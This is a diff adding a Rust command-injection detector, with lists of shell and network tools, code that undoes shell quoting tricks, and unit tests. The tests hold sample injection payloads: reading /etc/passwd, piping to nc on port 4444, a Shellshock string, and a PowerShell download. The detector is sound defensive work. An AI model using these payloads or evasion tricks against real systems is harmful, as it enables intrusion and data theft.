@@ -1,0 +1,751 @@
+//! OS command injection, read with shell grammar.
+//!
+//! The value is split where a shell would start a new command (`;`, `|`,
+//! `&&`, `||`, `&`, newlines, `$(...)`, backquotes); the word in command
+//! position is then looked up after undoing the quoting tricks shells accept
+//! (`c''at`, `w\ho\ami`, `$IFS`). A command word only counts in command
+//! position: "the cat sat" is text, "; cat /etc/passwd" is a command.
+
+use super::Hit;
+use std::collections::HashSet;
+use std::sync::OnceLock;
+
+/// Commands that are not also common words: command position is enough.
+const COMMANDS: &[&str] = &[
+    "zcat",
+    "zstdcat",
+    "bzcat",
+    "xzcat",
+    "zless",
+    "zgrep",
+    "bsdtar",
+    "perf",
+    "ansible",
+    "ansible-playbook",
+    "chef",
+    "knife",
+    "puppet",
+    "salt",
+    "terraform",
+    "nmap",
+    "masscan",
+    "hping3",
+    "tshark",
+    "tcpdump",
+    "gdb",
+    "objdump",
+    "readelf",
+    "ldd",
+    "ltrace",
+    "pkexec",
+    "visudo",
+    "usermod",
+    "groupadd",
+    "mount",
+    "umount",
+    "fdisk",
+    "losetup",
+    "insmod",
+    "modprobe",
+    "iptables",
+    "systemctl",
+    "journalctl",
+    "dmesg",
+    "lsmod",
+    "lsblk",
+    "blkid",
+    "lsattr",
+    "chattr",
+    "setfacl",
+    "getfacl",
+    "cpio",
+    "shred",
+    "unshare",
+    "nsenter",
+    "capsh",
+    "setcap",
+    "getcap",
+    "sshpass",
+    "proxychains",
+    "torsocks",
+    "cscli",
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "busybox",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "lua",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "wmic",
+    "regedit",
+    "reg",
+    "schtasks",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "net",
+    "chmod",
+    "chown",
+    "passwd",
+    "useradd",
+    "crontab",
+    "nohup",
+    "xterm",
+    "socat",
+    "ssh",
+    "scp",
+    "ftp",
+    "tftp",
+    "sudo",
+    "su",
+    "id",
+    "ls",
+    "dir",
+    "cat",
+    "tac",
+    "rev",
+    "nl",
+    "xxd",
+    "od",
+    "base64",
+    "env",
+    "printenv",
+    "ps",
+    "kill",
+    "pkill",
+    "killall",
+    "rm",
+    "mv",
+    "cp",
+    "dd",
+    "mkfifo",
+    "mknod",
+    "awk",
+    "gawk",
+    "sed",
+    "grep",
+    "egrep",
+    "find",
+    "xargs",
+    "tar",
+    "zip",
+    "unzip",
+    "gcc",
+    "cc",
+    "make",
+    "exec",
+    "eval",
+    "sleep",
+    "ping",
+    "echo",
+    "printf",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "sort",
+    "uniq",
+    "wc",
+    "cut",
+    "tr",
+    "whereis",
+    "which",
+    "type",
+    "hostname",
+    "uptime",
+    "w",
+    "who",
+    "last",
+    "history",
+    "alias",
+    "export",
+    "set",
+    "unset",
+    "source",
+    "column",
+    "iwr",
+    "iex",
+    "irm",
+    "invoke-webrequest",
+    "invoke-expression",
+    "invoke-restmethod",
+    "start-process",
+    "iwmi",
+    "invoke-wmimethod",
+    "get-content",
+    "set-content",
+    "new-object",
+    "bcdboot",
+    "bcdedit",
+    "vssadmin",
+    "wevtutil",
+    "icacls",
+    "attrib",
+    "copy",
+    "del",
+    "type",
+    "more",
+    "findstr",
+    "fsutil",
+    "diskpart",
+    "cscript",
+    "wscript",
+    "msiexec",
+    "forfiles",
+    "at",
+    "timeout",
+    "dig",
+    "host",
+    "arp",
+    "route",
+    "traceroute",
+    "tracert",
+    "getent",
+    "lsof",
+    "strace",
+    "java",
+    "javac",
+    "jrunscript",
+    "c99",
+    "c89",
+    "ed",
+    "vi",
+    "vim",
+    "nano",
+    "openssl",
+    "apt",
+    "apt-get",
+    "irb",
+    "gunzip",
+    "gzip",
+    "bzip2",
+    "xz",
+    "unxz",
+    "7z",
+    "flock",
+    "cpulimit",
+    "nice",
+    "ionice",
+    "setsid",
+    "stdbuf",
+    "timeout",
+    "watch",
+    "taskset",
+    "strings",
+    "file",
+    "stat",
+    "tee",
+    "mail",
+    "sendmail",
+    "rsync",
+    "aria2c",
+    "lynx",
+    "links",
+    "w3m",
+    "fetch",
+    "runuser",
+    "pkexec",
+    "doas",
+    "awk",
+    "mawk",
+    "nawk",
+    "jjs",
+    "jshell",
+    "groovy",
+    "scala",
+    "php-cgi",
+    "rbash",
+    "yum",
+    "pip",
+    "npm",
+    "git",
+    "docker",
+    "kubectl",
+    "mysql",
+    "psql",
+    "sqlite3",
+    "tclsh",
+    "expect",
+    "script",
+    "screen",
+    "tmux",
+    "time",
+    "timeout",
+    "chroot",
+    "ln",
+    "touch",
+    "mkdir",
+    "rmdir",
+    "cd",
+    "pwd",
+    "true",
+    "false",
+    "test",
+    "read",
+    "wait",
+    "exit",
+    "logout",
+    "shutdown",
+    "reboot",
+    "halt",
+    "init",
+];
+
+/// Commands that are also everyday words: they need shell-looking arguments.
+const WORDLIKE: &[&str] = &[
+    "mail", "watch", "file", "stat", "tee", "fetch", "links", "strings", "nice", "salt", "chef",
+    "knife", "puppet", "mount", "zip", "tar", "column", "shred", "touch", "copy", "host", "dig",
+    "route", "type", "find", "sort", "cat", "more", "less", "find", "sort", "head", "tail", "echo",
+    "date", "time", "kill", "touch", "wait", "sleep", "ping", "which", "who", "w", "type", "set",
+    "env", "id", "net", "reg", "at", "host", "route", "test", "true", "false", "read", "exit",
+    "copy", "del", "dir", "ls", "make", "cut", "tr", "ed", "nl", "od", "w", "last", "history",
+    "source", "script", "screen", "expect", "init", "halt", "column", "cd", "ln", "su", "cc",
+    "tac", "rev", "uniq", "wc", "at", "git", "node", "java", "ftp", "apt", "pip", "npm", "ruby",
+    "python", "perl", "lua", "php", "printf", "eval", "exec", "alias", "export", "unset", "mv",
+    "cp", "rm", "dd", "ps",
+];
+
+/// Reconnaissance commands whose names are not words: alone, they are a probe.
+const RECON: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "systeminfo",
+    "tasklist",
+    "printenv",
+    "getent",
+    "nslookup",
+];
+
+/// Commands that run the command that follows them.
+const WRAPPERS: &[&str] = &[
+    "time", "nohup", "strace", "ltrace", "nice", "ionice", "sudo", "doas", "env", "timeout",
+    "xargs", "exec", "command", "builtin", "setsid", "stdbuf", "taskset", "chroot", "watch",
+    "flock", "cpulimit", "busybox", "runuser", "su",
+];
+
+/// Membership in a word list, through a set built once (the lists are
+/// consulted for every value; a linear scan dominated the profile).
+fn in_set(
+    set: &'static OnceLock<HashSet<&'static str>>,
+    list: &'static [&'static str],
+    word: &str,
+) -> bool {
+    set.get_or_init(|| list.iter().copied().collect())
+        .contains(word)
+}
+
+fn is_command(word: &str) -> bool {
+    static SET: OnceLock<HashSet<&'static str>> = OnceLock::new();
+    in_set(&SET, COMMANDS, word)
+}
+
+fn is_wordlike(word: &str) -> bool {
+    static SET: OnceLock<HashSet<&'static str>> = OnceLock::new();
+    in_set(&SET, WORDLIKE, word)
+}
+
+fn is_wrapper(word: &str) -> bool {
+    static SET: OnceLock<HashSet<&'static str>> = OnceLock::new();
+    in_set(&SET, WRAPPERS, word)
+}
+
+/// Undoes quoting tricks inside words: `c''at`, `w"h"oami`, `c\at`, `$IFS`, `$@`.
+fn unquote(s: &str) -> String {
+    let s = s
+        .replace("${ifs}", " ")
+        .replace("$ifs", " ")
+        .replace("$@", "")
+        .replace("$*", "")
+        .replace("$!", "")
+        .replace("$$", "")
+        .replace("``", "")
+        .replace("$()", "");
+    // Single-character classes select that character: `/bi[n]/ba[s]h`.
+    let b = s.as_bytes();
+    let mut unclassed = String::with_capacity(s.len());
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] == b'['
+            && b.get(i + 2) == Some(&b']')
+            && b[i + 1].is_ascii_alphanumeric()
+            && i > 0
+            && b[i - 1] != b'$'
+        {
+            unclassed.push(char::from(b[i + 1]));
+            i += 3;
+            continue;
+        }
+        let ch = s[i..].chars().next().unwrap_or(' ');
+        unclassed.push(ch);
+        i += ch.len_utf8();
+    }
+    let s = unclassed;
+    // A variable expanded inside a word (`uname$u`) is usually empty.
+    let mut out = String::with_capacity(s.len());
+    let mut chars = s.chars().peekable();
+    let mut prev_alnum = false;
+    while let Some(c) = chars.next() {
+        if c == '$' && prev_alnum && chars.peek().is_some_and(|n| n.is_ascii_lowercase()) {
+            while chars
+                .peek()
+                .is_some_and(|n| n.is_ascii_alphanumeric() || *n == '_')
+            {
+                chars.next();
+            }
+            continue;
+        }
+        prev_alnum = c.is_ascii_alphanumeric();
+        out.push(c);
+    }
+    let s = out;
+    let is_quote = |c: u8| matches!(c, b'\'' | b'"' | b'\\');
+    let word_or_quote = |c: u8| c.is_ascii_alphanumeric() || is_quote(c);
+    let b = s.as_bytes();
+    let kept: Vec<u8> = b
+        .iter()
+        .enumerate()
+        .filter(|&(i, &c)| {
+            let inside_word =
+                i > 0 && word_or_quote(b[i - 1]) && b.get(i + 1).is_some_and(|&n| word_or_quote(n));
+            !(is_quote(c) && inside_word)
+        })
+        .map(|(_, &c)| c)
+        .collect();
+    String::from_utf8_lossy(&kept).into_owned()
+}
+
+fn is_separator(c: char) -> bool {
+    matches!(c, ';' | '|' | '&' | '\n' | '`')
+}
+
+/// Whether `args` look like shell arguments rather than prose.
+fn shell_args(args: &str) -> bool {
+    let args = args.trim_start();
+    args.is_empty()
+        || args.starts_with([
+            '-', '/', '$', '~', '.', '>', '<', '|', '*', '\\', '%', '\'', '"', ';', '&',
+        ])
+        || args
+            .split_whitespace()
+            .next()
+            .is_some_and(|w| w.contains('/') || w.contains('.') || w.contains('='))
+        || has_option(args)
+}
+
+/// Whether one of the first arguments is an option (`-m`, `--list`).
+fn has_option(args: &str) -> bool {
+    args.split_whitespace().take(3).any(|w| {
+        w.len() > 1
+            && w.starts_with('-')
+            && w.trim_start_matches('-')
+                .bytes()
+                .next()
+                .is_some_and(|b| b.is_ascii_alphabetic())
+    })
+}
+
+fn command_word(segment: &str) -> (&str, &str) {
+    let segment = segment.trim_start_matches([' ', '$', '(', '{', '!', '@']);
+    let end = segment
+        .find(|c: char| {
+            c == ' ' || is_separator(c) || matches!(c, '<' | '>' | '(' | ')' | '{' | '}')
+        })
+        .unwrap_or(segment.len());
+    let word = &segment[..end];
+    // `/usr/bin/perl` runs `perl`; `text/cmd` is not a path to run.
+    let word = word.trim_matches(['\'', '"']);
+    let word = if word.starts_with('/') || word.starts_with("./") {
+        word.rsplit('/').next().unwrap_or(word)
+    } else {
+        word
+    };
+    (word, &segment[end..])
+}
+
+/// Whether the value's first word is a command (or a Windows `if`/`for`):
+/// the cheap test that decides whether the shell reading runs at all.
+pub fn starts_with_command(folded: &str) -> bool {
+    let (raw, _) = command_word(folded.trim_start_matches(['\'', '"', ' ']));
+    let word = raw.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    is_command(raw)
+        || is_command(word)
+        || raw
+            .split_once('-')
+            .is_some_and(|(tool, _)| is_command(tool) && !is_wordlike(tool))
+        || is_wrapper(word)
+        || word == "if"
+        || word == "for"
+        || word.starts_with('/')
+}
+
+/// Looks for command injection in a folded (lower-case) value.
+pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
+    if folded.contains("() {") || folded.contains("(){") {
+        hits.push(Hit::new("cmdi.shellshock", 5.0, 0.95, 1));
+        return;
+    }
+    // Shell grammar needs the line breaks that folding collapses.
+    let s = if text.contains(['\n', '\r']) {
+        unquote(&text.to_lowercase().replace('\r', "\n"))
+    } else {
+        unquote(folded)
+    };
+    if s.contains("$[") && s.contains(']') {
+        hits.push(Hit::new("cmdi.substitution", 5.0, 0.8, 1));
+        return;
+    }
+    if (s.contains("$(") || s.contains("<(") || s.contains(">(")) && s.contains(')')
+        || s.contains("${") && s.contains('}') && !s.contains("${jndi")
+    {
+        let inner = s.split(['(', '{']).nth(1).unwrap_or("");
+        let (word, _) = command_word(inner);
+        // `${var#pattern}`, `${var:-x}`, `$((1+1))`: parameter and arithmetic expansion.
+        let name_len = inner
+            .bytes()
+            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
+            .count();
+        let expansion = s.contains("$((")
+            || name_len > 0 && inner[name_len..].starts_with(['#', '%', '/', ':', '^', ',', '~']);
+        if expansion
+            || is_command(word)
+            || word.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && !word.is_empty()
+        {
+            hits.push(Hit::new("cmdi.substitution", 5.0, 0.85, 1));
+            return;
+        }
+    }
+    let windows_if = s.trim_start().strip_prefix("if ").is_some_and(|rest| {
+        let rest = rest.trim_start();
+        let rest = rest.strip_prefix("/i ").unwrap_or(rest).trim_start();
+        let rest = rest.strip_prefix("not ").unwrap_or(rest).trim_start();
+        let words: Vec<&str> = rest.split_whitespace().take(3).collect();
+        ["exist", "defined", "errorlevel", "cmdextversion"]
+            .iter()
+            .any(|k| words.first() == Some(k))
+            || words
+                .get(1)
+                .is_some_and(|op| ["equ", "neq", "lss", "leq", "gtr", "geq", "=="].contains(op))
+            || words.first().is_some_and(|w| w.contains("=="))
+    });
+    if windows_if || s.trim_start().starts_with("for ") && s.contains(" in (") && s.contains(" do ")
+    {
+        hits.push(Hit::new("cmdi.windows_for_loop", 5.0, 0.9, 1));
+        return;
+    }
+    if let Some(open) = s.find('{') {
+        // Brace expansion: `{l,-lh}s`, `c{a,oun}t`, `{cat,/etc/passwd}`.
+        if let Some(close) = s[open..].find('}') {
+            let inner = &s[open + 1..open + close];
+            if inner.contains(',')
+                && !inner.contains(' ')
+                && !inner.contains(':')
+                && !inner.contains('"')
+            {
+                let expanded: String = inner.split(',').next().unwrap_or("").to_owned();
+                let joined = format!("{}{}{}", &s[..open], expanded, &s[open + close + 1..]);
+                let (word, _) = command_word(&joined);
+                if is_command(word)
+                    || inner.split(',').any(|w| {
+                        COMMANDS
+                            .contains(&w.trim_start_matches('/').rsplit('/').next().unwrap_or(""))
+                    })
+                {
+                    hits.push(Hit::new("cmdi.brace_expansion", 5.0, 0.8, 1));
+                    return;
+                }
+            }
+        }
+    }
+    let trimmed = s.trim();
+    if trimmed.starts_with("~+") || trimmed.starts_with("~-") {
+        hits.push(Hit::new("cmdi.tilde_expansion", 5.0, 0.7, 1));
+        return;
+    }
+    if trimmed.starts_with("alias ") && trimmed[6..].split_whitespace().any(|w| w.contains('=')) {
+        hits.push(Hit::new("cmdi.alias", 5.0, 0.8, 1));
+        return;
+    }
+    if s.contains("!-") && s.matches('!').count() >= 2 && s.trim().starts_with('!') {
+        hits.push(Hit::new("cmdi.history_expansion", 5.0, 0.7, 1));
+        return;
+    }
+    // Command position: after a separator, or at the very start.
+    let mut starts: Vec<(usize, bool)> = vec![(0, false)];
+    for (i, c) in s.char_indices() {
+        if is_separator(c) {
+            starts.push((i + c.len_utf8(), true));
+        }
+    }
+    for (start, after_separator) in starts {
+        let (word, args) = command_word(&s[start..]);
+        let segment = s[start..].trim_start();
+        let binary_path = [
+            "/bin/",
+            "/sbin/",
+            "/usr/bin/",
+            "/usr/sbin/",
+            "/usr/local/bin/",
+            "$shell",
+            "${shell}",
+        ]
+        .iter()
+        .any(|p| segment.starts_with(p))
+            || (start == 0 && (segment.starts_with("bin/") || segment.starts_with("sbin/")));
+        let leading_separator = after_separator && s[..start].trim().len() == 1;
+        let optioned = after_separator
+            && has_option(args)
+            && word
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+            || after_separator
+                && args.trim_start().starts_with('-')
+                && word
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
+        let program = word.rsplit('/').next().unwrap_or(word);
+        if (binary_path || leading_separator || optioned)
+            && !program.is_empty()
+            && program
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
+        {
+            hits.push(Hit::new("cmdi.command", 5.0, 0.8, 1));
+            return;
+        }
+        // `; ansible-config`: a tool's companion binaries, where a command
+        // must stand (at the start of a value, `ssh-rsa` is a key type).
+        let word = match word.split_once('-') {
+            Some((tool, _))
+                if (after_separator
+                    || has_option(args)
+                    || args.trim_end_matches([' ', '\t']).ends_with('\n'))
+                    && !is_command(word)
+                    && is_command(tool)
+                    && !is_wordlike(tool) =>
+            {
+                tool
+            }
+            _ => word,
+        };
+        // `python3.10`, `c99`: a version suffix makes a name a command, not a word.
+        let versioned = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        let has_version = versioned.len() < word.len() && !versioned.is_empty();
+        let word = if is_command(word) || !has_version {
+            word
+        } else {
+            versioned
+        };
+        if has_version && is_command(word) && !args.trim().is_empty() {
+            hits.push(Hit::new("cmdi.command", 5.0, 0.75, 1));
+            return;
+        }
+        // `time sh -c id`, `nohup ifconfig`: a wrapper puts the next word in command position.
+        if is_wrapper(word) {
+            let (next, _) = command_word(args);
+            if is_command(next) && !is_wordlike(next) {
+                hits.push(Hit::new("cmdi.command", 5.0, 0.8, 1));
+                return;
+            }
+        }
+        if word.is_empty() || !is_command(word) {
+            continue;
+        }
+        let wordlike = is_wordlike(word);
+        let path_invoked = s[start..].trim_start().starts_with('/') && s[start..].contains("bin/");
+        let convincing = if after_separator {
+            !wordlike || shell_args(args)
+        } else {
+            // A bare word is a command only when nothing else is named so.
+            let bare = args.trim().is_empty();
+            // A command followed by a line break is a command line.
+            let line_ends = args.trim_end_matches([' ', '\t']).ends_with('\n');
+            path_invoked
+                || (!wordlike && shell_args(args) && (!bare || RECON.contains(&word)))
+                || (!wordlike && line_ends)
+                || (wordlike && args.trim_start().starts_with(['/', '-']) && args.contains('/'))
+        };
+        if convincing {
+            hits.push(Hit::new(
+                "cmdi.command",
+                5.0,
+                if after_separator { 0.85 } else { 0.7 },
+                1,
+            ));
+            return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn fires(s: &str) -> bool {
+        super::super::fires(detect, s)
+    }
+
+    #[test]
+    fn catches_commands_in_command_position() {
+        for attack in [
+            ";cat /etc/passwd",
+            "$(whoami)",
+            "x | nc 10.0.0.1 4444",
+            "() { :;}; /bin/sh -c \"sleep 6\"",
+            "cat /etc/passwd",
+            "/usr/bin/perl -e 'print readline' some-file.txt",
+            "{l,-lh}s",
+            "w'h'o'am'i",
+            ";ps",
+            "&& ping -n 3 127.0.0.1",
+            "Invoke-WebRequest http://example.com/path/file.ps1",
+        ] {
+            assert!(fires(attack), "missed: {attack}");
+        }
+    }
+
+    #[test]
+    fn stays_quiet_on_prose() {
+        for benign in [
+            "the cat sat on the mat",
+            "Tom & Jerry; sort of funny",
+            "I find it hard to sleep (sometimes)",
+            "Fish & chips | mushy peas",
+            "Wait for me",
+            "Balanced fault-tolerant strategy",
+        ] {
+            assert!(!fires(benign), "false positive: {benign}");
+        }
+    }
+}
